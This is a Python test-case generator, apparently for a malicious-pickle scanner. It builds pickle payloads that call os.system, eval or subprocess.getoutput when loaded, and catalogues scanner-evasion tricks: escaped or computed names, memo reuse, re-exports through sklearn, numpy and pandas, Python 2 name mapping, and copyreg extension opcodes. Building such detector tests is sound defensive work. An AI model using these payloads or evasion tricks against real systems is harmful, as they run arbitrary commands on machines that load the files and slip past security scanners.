"""Ways to reach a global: opcodes, memo, computed and dotted names, names of Python 2, extension codes."""

from asm import (
    ADDITEMS,
    APPENDS,
    DUP,
    EMPTY_LIST,
    EMPTY_SET,
    MARK,
    MEMOIZE,
    OBJ,
    POP,
    POP_MARK,
    PY,
    REDUCE,
    SH,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    Ops,
    call,
    drop,
    framed,
    get,
    method,
    named,
    old_global,
    proto,
    push,
    put,
    stream,
    text_call,
    tup,
)
from cases import runs

TECHNIQUE = "reach"
SYSTEM = "os system"


def opcodes():
    argument = tup(SH)
    yield runs("global", stream(old_global(SYSTEM), argument, REDUCE, protocol=2), SYSTEM, expect="call-dangerous")
    yield runs("stack_global", framed(named(SYSTEM), argument, REDUCE), SYSTEM, expect="call-dangerous")
    yield runs("inst", MARK + push(SH) + Ops(b"ios\nsystem\n") + STOP, SYSTEM, expect="call-dangerous")
    yield runs("obj", stream(MARK, named(SYSTEM), push(SH), OBJ), SYSTEM, expect="call-dangerous")
    yield runs("protocol_0_text", text_call(SYSTEM, SH) + STOP, SYSTEM, expect="call-dangerous")
    yield runs(
        "protocol_0_string",
        old_global(SYSTEM) + MARK + Ops(b"S" + repr(SH).encode() + b"\n") + TUPLE + REDUCE + STOP,
        SYSTEM,
        expect="call-dangerous",
    )
    yield runs("protocol_5", framed(named(SYSTEM), argument, REDUCE, protocol=5), SYSTEM, expect="call-dangerous")
    yield runs("global_in_protocol_4", stream(old_global(SYSTEM), argument, REDUCE), SYSTEM)
    yield runs("stack_global_in_protocol_0", named(SYSTEM) + argument + REDUCE + STOP, SYSTEM)
    yield runs(
        "wide_unicode_opcodes",
        stream(Ops(b"\x8d\x02\0\0\0\0\0\0\0os\x8d\x06\0\0\0\0\0\0\0system"), STACK_GLOBAL, argument, REDUCE),
        SYSTEM,
    )
    yield runs("text_unicode_names", stream(Ops(b"Vos\nVsystem\n"), STACK_GLOBAL, argument, REDUCE), SYSTEM)
    yield runs(
        "escaped_unicode_names",
        stream(Ops(b"V\\u006fs\nVsyst\\u0065m\n"), STACK_GLOBAL, argument, REDUCE),
        SYSTEM,
        "raw-unicode-escape: the file's bytes do not contain the name",
    )
    yield runs(
        "string_opcode_names",
        stream(Ops(b"S'\\x6f\\x73'\nS'\\163ystem'\n"), STACK_GLOBAL, argument, REDUCE),
        SYSTEM,
        "STRING is read with Python's escapes",
    )
    yield runs(
        "short_binstring_names", stream(Ops(b"U\x02osT\x06\0\0\0system"), STACK_GLOBAL, argument, REDUCE), SYSTEM
    )


def memo():
    argument = tup(SH)
    names = push("system") + put(5) + POP + push("os") + put(9) + POP
    yield runs("memo_names", stream(names, get(9), get(5), STACK_GLOBAL, argument, REDUCE), SYSTEM)
    yield runs(
        "memo_overwritten",
        stream(
            push("math"), put(1), POP, push("os"), put(1), POP, get(1), push("system"), STACK_GLOBAL, argument, REDUCE
        ),
        SYSTEM,
        "the second PUT of a slot counts",
    )
    yield runs(
        "memo_long_index",
        stream(
            push("os"),
            Ops(b"r\x39\x30\0\0"),
            POP,
            Ops(b"j\x39\x30\0\0"),
            push("system"),
            STACK_GLOBAL,
            argument,
            REDUCE,
        ),
        SYSTEM,
    )
    yield runs(
        "memo_text_index",
        stream(push("os"), Ops(b"p007\n0g7\n"), push("system"), STACK_GLOBAL, argument, REDUCE),
        SYSTEM,
        "PUT 007 and GET 7 are one slot",
    )
    yield runs(
        "memo_after_memoize",
        stream(
            push("a"),
            MEMOIZE,
            POP,
            push("os"),
            MEMOIZE,
            POP,
            push("system"),
            MEMOIZE,
            POP,
            get(1),
            get(2),
            STACK_GLOBAL,
            argument,
            REDUCE,
        ),
        SYSTEM,
    )
    yield runs(
        "memo_memoize_after_gap",
        stream(
            push("os"),
            put(7),
            MEMOIZE,
            POP,
            push("system"),
            MEMOIZE,
            POP,
            get(1),
            get(2),
            STACK_GLOBAL,
            argument,
            REDUCE,
        ),
        SYSTEM,
        "MEMOIZE counts entries, so a gap moves no index",
    )
    yield runs(
        "memo_callable", stream(named(SYSTEM), put(0), POP, push({"a": 1}), POP, get(0), argument, REDUCE), SYSTEM
    )
    yield runs(
        "memo_in_list",
        stream(
            EMPTY_LIST,
            MARK,
            named(SYSTEM),
            put(3),
            push(SH),
            put(4),
            APPENDS,
            POP,
            get(3),
            get(4),
            Ops(b"\x85"),
            REDUCE,
        ),
        SYSTEM,
    )
    yield runs(
        "dup_names", stream(push("os"), DUP, put(0), POP, push("system"), STACK_GLOBAL, argument, REDUCE), SYSTEM
    )
    yield runs("popped_decoy", stream(push("math"), push("sqrt"), POP, POP, named(SYSTEM), argument, REDUCE), SYSTEM)
    yield runs(
        "pop_mark_decoy",
        stream(
            MARK,
            named("math sqrt"),
            push("os"),
            put(2),
            POP_MARK,
            get(2),
            push("system"),
            STACK_GLOBAL,
            argument,
            REDUCE,
        ),
        SYSTEM,
    )


def dotted():
    rows = [
        ("dotted_os_path", "os path.os.system"),
        ("dotted_shutil", "shutil os.system"),
        ("dotted_random", "random _os.system"),
        ("dotted_logging", "logging os.system"),
        ("dotted_json", "json codecs.builtins.eval"),
    ]
    for name, target in rows:
        text = PY if target.endswith("eval") else SH
        yield runs(name, stream(named(target), tup(text), REDUCE), target)
    module_dict = call(
        "builtins getattr", call("builtins getattr", named("tempfile NamedTemporaryFile"), "__globals__"), "get"
    )
    yield runs(
        "function_globals",
        stream(call(call("builtins getattr", call(module_dict, "_os"), "system"), SH)),
        "tempfile NamedTemporaryFile|builtins.getattr",
    )
    chain = named("builtins object.__subclasses__")
    yield runs(
        "object_subclasses",
        stream(call("builtins list", call("builtins map", named("builtins repr"), call(chain)))),
        "builtins object.__subclasses__",
        proof="result:_wrap_close",
    )
    yield runs(
        "dotted_method_globals",
        stream(
            method(call("operator getitem", named("os _wrap_close.__init__.__globals__"), "system"), "__call__", SH)
        ),
        "os _wrap_close.__init__.__globals__",
    )
    for name, target in (
        ("reexport_sklearn", "sklearn.utils._testing os.system"),
        ("reexport_sklearn_datasets", "sklearn.datasets._base os.system"),
        ("reexport_joblib", "joblib.numpy_pickle os.system"),
        ("reexport_joblib_top", "joblib os.system"),
        ("reexport_numpy", "numpy.testing._private.utils os.system"),
        ("reexport_numpy_extbuild", "numpy.testing._private.extbuild subprocess.getoutput"),
        ("reexport_pandas", "pandas.io.common os.system"),
        ("reexport_scipy", "scipy._lib._testutils os.system"),
    ):
        yield runs(name, stream(named(target), tup(SH), REDUCE), target, needs=[target.split(" ")[0].split(".")[0]])
    yield runs(
        "reexport_plain_name",
        stream(named("os.path os.system"), tup(SH), REDUCE),
        "os.path os.system|posixpath.os.system",
    )


def python2():
    for name, target, text, now in (
        ("py2_builtin_eval", "__builtin__ eval", PY, "builtins.eval"),
        ("py2_execfile_like_apply", "__builtin__ compile", None, "builtins.compile"),
        ("py2_commands", "commands getoutput", SH, "subprocess.getoutput"),
        ("py2_reduce", "__builtin__ reduce", None, "functools.reduce"),
        ("py2_imap", "itertools imap", None, "builtins.map"),
    ):
        both = target.replace(" ", ".") + "|" + now
        note = "_compat_pickle maps the name at protocol < 3: " + now
        if target.endswith("compile"):
            code = old_global(target) + tup(PY, "x", "exec") + REDUCE
            yield runs(name, stream(old_global("__builtin__ eval"), tup(code), REDUCE, protocol=2), both, note)
        elif target.endswith("reduce"):
            yield runs(
                name,
                stream(old_global(target), tup(named("operator call"), [named(SYSTEM), SH]), REDUCE, protocol=2),
                both,
                note,
            )
        elif target.endswith("imap"):
            consumed = old_global("__builtin__ set") + tup(old_global(target) + tup(named(SYSTEM), [SH]) + REDUCE)
            yield runs(name, stream(consumed, REDUCE, protocol=2), both, note)
        else:
            yield runs(name, old_global(target) + tup(text) + REDUCE + STOP, both, note)
    yield runs(
        "py2_stack_global",
        stream(named("__builtin__ eval"), tup(PY), REDUCE, protocol=2),
        "__builtin__.eval|builtins.eval",
        "STACK_GLOBAL is mapped too: the protocol counts, not the opcode",
    )
    yield runs(
        "protocol_dropped_midway",
        stream(named("os getcwd"), tup(), REDUCE, POP, proto(2), named("__builtin__ eval"), tup(PY), REDUCE),
        "__builtin__.eval|builtins.eval",
        "a second PROTO 2 switches the mapping on",
    )


def computed():
    argument = tup(SH)
    tricks = (
        ("computed_add", call("operator add", "sys", "tem"), "operator.add"),
        ("computed_join", method("", "join", ["sy", "st", "em"]), "builtins.getattr"),
        (
            "computed_getitem",
            call("operator getitem", "metsys", call("builtins slice", None, None, -1)),
            "operator.getitem",
        ),
        ("computed_rot13", call("_codecs encode", "flfgrz", "rot13"), "_codecs.encode"),
        ("computed_str_bytes", call("builtins str", b"system", "ascii"), "builtins.str"),
        ("computed_intern", call("sys intern", "system"), "sys.intern"),
        ("computed_format", method("sy{}em", "format", "st"), "builtins.getattr"),
        ("computed_attribute", call("builtins getattr", named(SYSTEM), "__name__"), "builtins.getattr"),
    )
    for name, ops, target in tricks:
        yield runs(
            name,
            stream(push("os"), ops, STACK_GLOBAL, argument, REDUCE),
            target + "|os.system",
            "STACK_GLOBAL takes any str from the stack",
            expect="pickle-computed-name",
        )


def builtins_chains():
    os_module = call("builtins __import__", "os")
    yield runs("import_getattr", stream(method(os_module, "system", SH)), "builtins.__import__")
    yield runs(
        "getattr_dict", stream(call(call("operator getitem", named("os __dict__"), "system"), SH)), "os.__dict__"
    )
    yield runs(
        "attrgetter_module",
        stream(call(call(call("operator attrgetter", "system"), named("os path.os")), SH)),
        "os.path.os|operator.attrgetter",
    )
    yield runs(
        "attrgetter_dotted",
        stream(call(call(call("operator attrgetter", "os.system"), named("os path")), SH)),
        "os.path|operator.attrgetter",
    )
    yield runs(
        "sys_modules_item",
        stream(
            call("builtins getattr", call("operator getitem", named("sys modules"), "os"), "system"), tup(SH), REDUCE
        ),
        "sys.modules",
    )
    yield runs("resolve_name", stream(call(call("pkgutil resolve_name", "os:system"), SH)), "pkgutil.resolve_name")
    yield runs("pydoc_locate", stream(call(call("pydoc locate", "os.system"), SH)), "pydoc.locate")
    point = call("importlib.metadata EntryPoint", "a", "os:system", "b")
    yield runs("entry_point", stream(call(method(point, "load"), SH)), "importlib.metadata.EntryPoint")
    yield runs(
        "pickle_find_class",
        stream(call(method(call("_pickle Unpickler", call("_io BytesIO", b"")), "find_class", "os", "system"), SH)),
        "_pickle.Unpickler",
    )
    yield runs(
        "logging_resolve", stream(call(call("logging.config _resolve", "os.system"), SH)), "logging.config._resolve"
    )


def extensions():
    add = call("copyreg add_extension", "os", "system", 7)
    for name, opcode in (("ext1", b"\x82\x07"), ("ext2", b"\x83\x07\0"), ("ext4", b"\x84\x07\0\0\0")):
        yield runs(
            name, stream(add, POP, Ops(opcode), tup(SH), REDUCE), "copyreg.add_extension", expect="pickle-extension"
        )
    table = named("copyreg _inverted_registry") + push(9) + push(("os", "system")) + Ops(b"s")
    yield runs(
        "ext_registry_item",
        stream(table, POP, Ops(b"\x82\x09"), tup(SH), REDUCE),
        "copyreg._inverted_registry",
        expect="pickle-extension",
    )
    cache = named("copyreg _extension_cache") + push(11) + named(SYSTEM) + Ops(b"s")
    yield runs("ext_cache_item", stream(cache, POP, Ops(b"\x82\x0b"), tup(SH), REDUCE), "copyreg._extension_cache")


def imports_alone():
    """Importing is running: a global that is never called."""
    yield runs("import_only_this", stream(named("this s")), "this.s", proof="stdout:Beautiful is better")
    yield runs(
        "import_only_antigravity",
        stream(named("antigravity geohash")),
        "antigravity.geohash",
        "opens a browser when it is imported",
        proof="audit:webbrowser.open",
    )
    yield runs(
        "import_only_in_set",
        stream(EMPTY_SET, MARK, named("this d.__class__"), ADDITEMS),
        "this.d.__class__",
        proof="stdout:Beautiful is better",
    )
    yield runs(
        "import_only_popped",
        stream(drop(named("this s")), push({"weights": [1.0, 2.0]})),
        "this.s",
        proof="stdout:Beautiful is better",
    )


def cases():
    for part in (opcodes, memo, dotted, python2, computed, builtins_chains, extensions, imports_alone):
        yield from part()
